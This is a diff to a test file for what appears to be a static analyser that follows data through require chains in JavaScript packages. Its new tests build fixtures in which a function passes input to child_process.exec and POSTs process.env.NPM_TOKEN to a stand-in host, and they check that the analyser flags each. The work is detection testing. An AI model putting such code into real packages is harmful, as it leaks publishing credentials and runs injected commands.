@@ -57,7 +57,7 @@ describe('more than is followed is a gap', () => {
         ),
       }).unfollowed;
     assert.deepEqual(sends(20), []);
-    assert.match(sends(2100).join(), /ways of its data were not followed/);
+    assert.match(sends(2100).join(), /not all were followed/);
   });
 
   for (const [what, code, gap] of [
@@ -67,4 +67,28 @@ describe('more than is followed is a gap', () => {
     ['a path', `require('fs').unlinkSync('${'a/'.repeat(3000)}b')`, /^$/],
   ] as const)
     it(`of ${what}`, () => assert.match(behaviourOf({ 'index.js': code }).unfollowed.join(), gap));
+});
+
+describe('what functions hand on to each other in more ways than can be followed', () => {
+  const fan = (files: number, make: (call: (at: number, args: string) => string) => string): Files =>
+    filesOf(files, at => make((to, args) => `require('./f${(at * 3 + to * 7 + 1) % files}').f(${args});`));
+
+  it('is told of each parameter once', () => {
+    const files = fan(
+      60,
+      call =>
+        `exports.f = (a, b, c, d) => { require('child_process').exec(a + b); ${repeated(8, to => call(to, 'a + b, b + c, c + d, d + a'))} };`,
+    );
+    const { effects } = behaviourOf({ ...files, 'index.js': `require('./f0').f('x', 'y', 'z', 'w');` });
+    assert.ok(effects.some(({ kind, target }) => kind === 'spawns' && target.includes('x | y')));
+  });
+
+  it('is followed to the secret', () => {
+    const files = fan(
+      60,
+      call => `exports.f = (a, b) => { fetch('https://a.invalid', { method: 'POST', body: b }); ${repeated(16, to => call(to, 'a, b'))} };`,
+    );
+    const { effects } = behaviourOf({ ...files, 'index.js': `require('./f0').f(1, process.env.NPM_TOKEN);` });
+    assert.ok(effects.some(({ kind, details }) => kind === 'connects' && /npm_token/i.test(details.get('holds') ?? '')));
+  });
 });
